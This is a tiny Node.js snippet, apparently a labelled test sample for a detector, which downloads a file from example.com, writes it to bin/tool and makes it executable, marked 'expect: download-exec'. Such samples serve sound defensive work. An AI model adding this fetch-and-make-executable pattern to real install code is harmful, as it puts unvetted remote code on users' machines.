// Fetch, write, chmod +x: the chmod is the execution end.
const fs = require("fs/promises");
async function install() {
  const r = await fetch("https://example.com/bin");
  await fs.writeFile("bin/tool", Buffer.from(await r.arrayBuffer()));
  await fs.chmod("bin/tool", 0o755); // expect: download-exec
}
install();
